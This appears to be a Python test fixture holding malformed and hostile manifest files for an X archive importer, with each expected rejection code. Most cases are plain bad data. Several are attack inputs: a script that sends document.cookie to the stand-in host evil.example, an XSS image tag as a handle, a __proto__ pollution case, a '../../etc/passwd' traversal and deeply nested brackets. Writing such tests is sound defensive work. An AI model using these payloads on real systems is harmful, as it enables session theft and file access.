"""Archives whose manifest is broken, false or made to do harm."""

import json
from collections.abc import Mapping

from dashboard.domain.x_archive import ArchiveProblem
from tests.archives.case import Case, zipped
from tests.archives.contents import ACCOUNT, HANDLE, files, lists, manifest, manifest_member, posts, script, whole
from tests.archives.zips import Member


def _text(name: str, text: bytes, problem: ArchiveProblem = ArchiveProblem.MANIFEST_UNREADABLE) -> Case:
    return zipped(name, [*posts(), *lists(), Member("data/manifest.js", text)], problem)


def _count(name: str, *counts: object, kind: str = "follower") -> Case:
    """The list in so many parts, with these counts."""
    named = {"follower": files("follower", "3"), "following": files("following", "2"), kind: files(kind, *counts)}
    return zipped(f"count {name}", [*lists((3,) * 4, (2,) * 4), manifest_member(manifest(named))], ArchiveProblem.BAD_COUNT)


def _user(name: str, user: Mapping[str, object]) -> Case:
    return zipped(name, whole(manifest(user=user)), ArchiveProblem.NO_ACCOUNT)


def _made(name: str, generated: object) -> Case:
    return zipped(f"made {name}", whole(manifest(archive={"generationDate": generated})), ArchiveProblem.NO_DATE)


def _without(*keys: str) -> bytes:
    return script({key: value for key, value in manifest().items() if key not in keys})


def _types(value: object) -> bytes:
    return script({**manifest(), "dataTypes": value})


def _missing(part: str) -> list[Member]:
    """An archive of three parts without that one."""
    named = {"follower": files("follower", "3", "3", "3"), "following": files("following", "2")}
    return [one for one in [*posts(), *lists((3, 3, 3)), manifest_member(manifest(named))] if one.name != part]


def _named(name: str) -> list[Member]:
    return [*posts(), *lists(), manifest_member(manifest({"follower": {"files": [{"fileName": name, "count": "3"}]}}))]


TWICE = {"files": files("follower", "3")["files"] * 2}
GOOD = json.dumps(manifest()).encode()
SCRIPT = b"window.__THAR_CONFIG = (function () { fetch('https://evil.example/' + document.cookie); return " + GOOD + b" })()"

SCRIPTS = (
    _text("script in place of the value", SCRIPT),
    _text("script after the value", script(manifest(), end="; fetch('https://evil.example/')")),
    _text("second assignment", script(manifest(), end=";\nwindow.evil = 1;")),
    _text("expression", b"window.__THAR_CONFIG = JSON.parse('{}')"),
    _text("comments", b"window.__THAR_CONFIG = /* hello */ " + GOOD),
    _text("single quotes", b"window.__THAR_CONFIG = {'userInfo': {}}"),
)

TEXTS = (
    _text("nothing", b""),
    _text("no assignment", GOOD.replace(b"=", b"")),
    _text("no value", b"window.__THAR_CONFIG = "),
    _text("cut short", script(manifest())[:-20]),
    _text("NUL bytes", script(manifest()).replace(HANDLE.encode(), b"univ\0besancon")),
    _text("only NUL bytes", bytes(500)),
    _text("not UTF-8", script(manifest()).replace("é".encode(), b"\xe9")),
    _text("UTF-16", script(manifest()).decode().encode("utf-16")),
    _text("NaN", script(manifest()).replace(b'"4563235"', b"NaN")),
    _text("a list", b"window.__THAR_CONFIG = [ ]"),
    _text("a number", b"window.__THAR_CONFIG = 12"),
    _text("100,000 lists in one another", b"window.__THAR_CONFIG = " + b"[" * 100_000 + b"]" * 100_000),
    _text("100,000 lists that never end", b"window.__THAR_CONFIG = " + b"[" * 100_000),
    _text("an HTML page", b"<!doctype html><html lang=en><title>Sign in</title>"),
)

COUNTS = (
    _count("as text", "12a"),
    _count("in words", "three"),
    _count("empty", ""),
    _count("with a space", " 3"),
    _count("with a comma", "1,234"),
    _count("with a point", "3.0"),
    _count("in other digits", "٣"),
    _count("negative", "-5"),
    _count("negative number", -5),
    _count("half a follower", 2.5),
    _count("10^15", "1000000000000000"),
    _count("10^15 as a number", 10**15),
    _count("of a thousand digits", "9" * 1000),
    _count("that adds up to too many", "900000000", "900000000", "900000000"),
    _count("missing", None),
    _count("missing in the second part", "3", None),
    _count("true", True),
    _count("a list", ["3"]),
    _count("lists in one another", [[[["3"]]]]),
    _count("a formula", "=3+3"),
    _count("of followed as text", "12a", kind="following"),
    zipped("count of the same file twice", [*lists(), manifest_member(manifest({"follower": TWICE}))], ArchiveProblem.BAD_COUNT),
)

ACCOUNTS = (
    _user("account missing", {"userName": HANDLE}),
    _user("account empty", {"accountId": "", "userName": HANDLE}),
    _user("account in letters", {"accountId": "besancon", "userName": HANDLE}),
    _user("account in other digits", {"accountId": "١٤٠", "userName": HANDLE}),
    _user("account as a number that the browser would round", {"accountId": 1400000000000000001, "userName": HANDLE}),
    _user("account null", {"accountId": None, "userName": HANDLE}),
    _user("account 0", {"accountId": "0", "userName": HANDLE}),
    _user("account of 40 digits", {"accountId": "1" * 40, "userName": HANDLE}),
    _user("handle missing", {"accountId": ACCOUNT}),
    _user("handle that is markup", {"accountId": ACCOUNT, "userName": "<img src=x onerror=alert(1)>"}),
    _user("handle with NUL", {"accountId": ACCOUNT, "userName": "univ\0besancon"}),
    _user("handle with a line", {"accountId": ACCOUNT, "userName": HANDLE + "\n"}),
    _text("user in the prototype", script({**manifest(user={}), "__proto__": manifest()}), ArchiveProblem.NO_ACCOUNT),
    _text("user missing", _without("userInfo"), ArchiveProblem.NO_ACCOUNT),
    _text("user a text", script({**manifest(), "userInfo": ACCOUNT}), ArchiveProblem.NO_ACCOUNT),
)

DATES = (
    _made("never", None),
    _made("in words", "yesterday"),
    _made("on a day that is none", "2025-02-30T05:46:38.082Z"),
    _made("at an hour that is none", "2025-01-22T25:46:38.082Z"),
    _made("on a day without an hour", "2025-01-22"),
    _made("on a day of no time zone", "2025-01-22T05:46:38.082"),
    _made("as a number", 1737524798082),
    _made("before there were such archives", "1970-01-01T00:00:00.000Z"),
    _made("as X writes the dates of posts", "Wed Jan 22 05:46:38 +0000 2025"),
    _text("made, nothing said", _without("archiveInfo"), ArchiveProblem.NO_DATE),
)

PARTS = (
    zipped("partial, without the list", [*posts(), manifest_member(manifest({}, partial=True))], ArchiveProblem.OTHER_PART),
    zipped("partial, list in another part", [*posts(), manifest_member(manifest(partial=True))], ArchiveProblem.OTHER_PART),
    zipped("no list of followers", whole(manifest({"following": files("following", "2")})), ArchiveProblem.NO_FOLLOWERS),
    zipped("list of followers of no file", whole(manifest({"follower": {"files": []}})), ArchiveProblem.NO_FOLLOWERS),
    zipped("look-alikes alone", whole(manifest({"followerRequestsSent": files("follower", "3")})), ArchiveProblem.NO_FOLLOWERS),
    _text("no kinds of data", _without("dataTypes"), ArchiveProblem.NO_FOLLOWERS),
    _text("kinds of data as a list", _types(["follower"]), ArchiveProblem.MANIFEST_UNREADABLE),
    _text("files as a text", _types({"follower": {"files": "data/follower.js"}}), ArchiveProblem.MANIFEST_UNREADABLE),
    _text("a file without a name", _types({"follower": {"files": [{"count": "3"}]}}), ArchiveProblem.MANIFEST_UNREADABLE),
    zipped("first part missing", _missing("data/follower.js"), ArchiveProblem.PART_MISSING, file="data/follower.js"),
    zipped("middle part missing", _missing("data/follower-part1.js"), ArchiveProblem.PART_MISSING, file="data/follower-part1.js"),
    zipped("part outside the archive", _named("../../etc/passwd"), ArchiveProblem.PART_MISSING, file="../../etc/passwd"),
    zipped("part in another folder", _named("follower.js"), ArchiveProblem.PART_MISSING, file="follower.js"),
)

MISLEADING: tuple[Case, ...] = (*SCRIPTS, *TEXTS, *COUNTS, *ACCOUNTS, *DATES, *PARTS)
